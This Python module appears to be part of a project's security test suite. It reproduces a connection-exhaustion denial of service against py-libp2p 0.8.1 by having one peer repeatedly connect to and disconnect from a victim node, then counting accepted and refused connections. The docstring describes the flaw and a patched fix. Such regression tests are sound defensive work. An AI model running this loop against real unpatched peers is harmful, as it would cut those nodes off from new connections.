"""Connect, disconnect, repeat, from one identity (issue 16, item 4).

py-libp2p 0.8.1's swarm held each inbound connection's slot until the swarm stopped: after
max_connections - min_connections (124 with mesh/host.py's limits) such cycles the victim refused
every new inbound connection until it restarted. The patched swarm frees the slot when the
connection ends (docs/library-patches.md).
"""

from __future__ import annotations

import trio

from garage_p2p.daemon import Peer
from garage_p2p.mesh.host import DialError

from . import Target

CYCLE_TIMEOUT = 5.0


async def attack(attacker: Peer, victim: Target, *, cycles: int = 140) -> dict[str, int | float | str]:
    """``cycles`` fresh connections to the victim, each closed before the next."""
    connected = refused = 0
    for _ in range(cycles):
        with trio.move_on_after(CYCLE_TIMEOUT):
            try:
                await attacker.mesh.connect(victim.peer_id, list(victim.addrs))
                connected += 1
            except DialError:
                refused += 1
            await attacker.mesh.disconnect(victim.peer_id)
    return {"cycles": cycles, "connected": connected, "refused": refused}
